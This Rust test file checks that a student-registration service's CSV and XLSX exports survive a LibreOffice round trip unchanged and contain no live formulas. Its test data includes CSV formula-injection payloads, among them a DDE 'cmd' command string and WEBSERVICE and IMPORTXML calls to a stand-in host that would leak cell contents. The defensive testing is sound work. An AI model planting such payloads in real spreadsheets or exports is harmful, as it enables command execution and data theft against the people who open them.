//! Exports that LibreOffice opens and saves, and imports of what it saved.

use std::{
    fs,
    path::Path,
    process::{Command, Stdio},
};

use libtest_mimic::Trial;
use registration_testkit::{TestDatabase, on_sqlite};
use reqwest::Method;
use serde_json::json;

use super::{
    super::exports::open, Office, count, operations::fill, patch, upload, upload_with, uploaded,
    wait_for,
};
use crate::{
    history::variable,
    support::{builder, start},
};

/// Only where `SOFFICE` is the path of LibreOffice: it takes minutes.
pub(super) fn trials() -> Vec<Trial> {
    match variable("SOFFICE") {
        Some(_) => on_sqlite![
            what_libreoffice_saves_comes_back_without_a_change,
            no_cell_is_a_formula_in_libreoffice,
        ],
        None => Vec::new(),
    }
}

/// What a spreadsheet could take for something else.
const NAMES: [&str; 60] = [
    // Numbers, dates, times, truth and errors, each with a letter as every name has.
    "007 x",
    "1E5",
    "2e-3",
    "1.5E+2",
    "SEPT1",
    "Mar 5",
    "1 Jan 2026",
    "5-May",
    "12:30 PM",
    "TRUE",
    "vrai",
    "0x1F",
    "1e",
    "Infinity",
    "NaN",
    "#N/A",
    "#REF!",
    "５Ｅ３",
    "EUR 5",
    "1d",
    "2026-11-28T10:00:00Z",
    // Letters of other languages.
    "Ñandú",
    "O’Neil",
    "O'Neil",
    "Łukasz",
    "山田太郎",
    "עברית",
    "محمد",
    "สมชาย",
    "Zoë😀",
    "e\u{301}mile",
    "क्षितिज",
    "Ægir",
    "Ǆ",
    "İpek",
    "ﬁ",
    "ß",
    // Quotes and separators.
    "\"Bob\"",
    "x;=y, \"z\"",
    "a,b",
    "a;b",
    "a|b",
    "'t Hart",
    "''x",
    "\"x",
    "x\"",
    "\\x",
    "a'",
    "’x",
    "`x",
    // Formulas.
    "=A1+1",
    "=cmd|' /C calc'!A0",
    "+39 Max",
    "-Weber",
    "@SUM(A1,2)",
    "＝A1",
    "-A1",
    "'=A1",
    "=TODAY()",
    "=HYPERLINK(\"http://x.test\",\"x\")",
];

/// What LibreOffice makes of a file.
fn saved_by_libreoffice(folder: &Path, name: &str, file: &[u8], filter: &str) -> Vec<u8> {
    let (input, output) = (folder.join(name), folder.join("saved"));
    fs::write(&input, file).unwrap();
    let mut command = Command::new(variable("SOFFICE").unwrap());
    command.args(["--headless", "--norestore"]);
    command.arg(format!("-env:UserInstallation=file://{}", folder.join("profile").display()));
    if name.ends_with(".csv") {
        let delimiter = if file.contains(&b';') && is_with_semicolons(file) { 59 } else { 44 };
        // UTF-8, every column as it is by default, formulas evaluated.
        command.arg(format!(
            "--infilter=CSV:{delimiter},34,76,1,,0,false,false,false,false,false,0,true"
        ));
    }
    command.args(["--convert-to", filter, "--outdir"]).arg(&output).arg(&input);
    let ended = command.stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
    assert!(ended.success(), "{name}: {ended}");
    let (ending, _) = filter.split_once(':').unwrap_or((filter, ""));
    fs::read(output.join(Path::new(name).with_extension(ending))).unwrap()
}

fn is_with_semicolons(file: &[u8]) -> bool {
    let line = file.split(|byte| *byte == b'\n').next().unwrap();
    let count = |byte| line.iter().filter(|one| **one == byte).count();
    count(b';') > count(b',')
}

/// The exports, with the names of their files.
const EXPORTS: [(&str, &str); 6] = [
    ("plain.csv", "students.csv"),
    ("english.csv", "students.csv?style=excel&lang=en"),
    ("italian.csv", "students.csv?style=excel&lang=it"),
    ("plain.xlsx", "students.xlsx"),
    ("english.xlsx", "students.xlsx?style=excel&lang=en"),
    ("italian.xlsx", "students.xlsx?style=excel&lang=it"),
];

/// As a person saves it: UTF-8, as shown.
const SAVED_AS: [&str; 2] = [
    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false",
    "xlsx:Calc MS Excel 2007 XML",
];

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

fn what_libreoffice_saves_comes_back_without_a_change(database: &TestDatabase) {
    let service = builder(database).env("REQUEST_TIMEOUT", "60").start();
    let office = Office::open(&service, database);
    let admin = &office.admin;
    let long: String = "Nguyễn".chars().cycle().take(100).collect();
    let names: Vec<_> = NAMES.iter().copied().chain([&*long]).collect();
    let of =
        |number: usize| (names[number % names.len()], names[number / names.len() % names.len()]);
    let mut file = "first_name,last_name,email\n".to_owned();
    for number in 0..10_000 {
        let (first, last) = of(number);
        file += &format!("{},{},n{number}@example.org\n", quoted(first), quoted(last));
    }
    let import = upload(admin, &file);
    let import = wait_for(admin, &import, "planned");
    assert_eq!(import["counts"]["create"], 10_000, "{import}");
    super::run(admin, &import);
    wait_for(admin, &import, "done");
    assert_eq!(count(database, "students"), 10_000);

    let folder = tempfile::tempdir().unwrap();
    for (name, path) in EXPORTS {
        let exported = open(admin, &format!("/api/{path}")).bytes().unwrap();
        for filter in SAVED_AS {
            let saved = saved_by_libreoffice(folder.path(), name, &exported, filter);
            let name = format!("{name}.{}", &filter[..4].trim_end_matches(':'));
            let import = uploaded(upload_with(admin, &name, &saved, &[]));
            let import = wait_for(admin, &import, "planned");
            let import = match import["settings"]["update_existing"].as_bool() {
                Some(true) => import,
                _ => {
                    assert_eq!(
                        patch(admin, &import, &json!({"update_existing": true})).status(),
                        200
                    );
                    wait_for(admin, &import, "planned")
                }
            };
            let rows = admin.read(&super::path(&import, "/rows?verdict=update&limit=20"));
            assert_eq!(import["counts"]["unchanged"], 10_000, "{name}: {import} {rows:#}");
        }
    }
}

fn no_cell_is_a_formula_in_libreoffice(database: &TestDatabase) {
    let service = start(database);
    let office = Office::open(&service, database);
    let payloads = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x.test\",\"x\")",
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "=SUM(1;2)",
        "=A1",
        "={1,2}",
        "==1",
        "=+1",
        "+=1",
        "-=1",
        "@=1",
        "=DDE(\"a\";\"b\";\"c\")",
        "=WEBSERVICE(\"http://x.test\")",
        "=1+1\"",
        "\"=1+1",
        "'=1+1",
        "''=1+1",
        "\"\"=1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "x,=1+1",
        "x;=1+1",
        "x\t=1+1",
        "x|=1+1",
        "x\n=1+1",
        "x\r=1+1",
        "x\",=1+1",
        "x\";=1+1",
        "\",=1+1,\"",
        "=IMPORTXML(CONCAT(\"http://x.test/\",A2),\"//a\")",
    ];
    fill(database, payloads.len());
    for (number, payload) in payloads.iter().enumerate() {
        let payload = payload.replace('\'', "''").replace('\r', "' || CHAR(13) || '");
        database.execute(&format!(
            "UPDATE students SET first_name = '{payload}' WHERE email = 'filled{number:05}@example.org'"
        ));
    }
    let folder = tempfile::tempdir().unwrap();
    for (name, path) in EXPORTS {
        let exported = office
            .admin
            .request(Method::GET, &format!("/api/{path}"))
            .send()
            .unwrap()
            .bytes()
            .unwrap();
        let opened = saved_by_libreoffice(folder.path(), name, &exported, "fods");
        let opened = String::from_utf8(opened).unwrap();
        assert!(opened.matches("<table:table-row").count() > payloads.len(), "{name}");
        assert_eq!(opened.matches("table:formula=").count(), 0, "{name}");
    }
    // The check finds formulas.
    let unsafe_file = open(&office.admin, "/api/students.csv?safe=false").bytes().unwrap();
    let opened = saved_by_libreoffice(folder.path(), "unsafe.csv", &unsafe_file, "fods");
    assert!(String::from_utf8(opened).unwrap().contains("table:formula="));
}
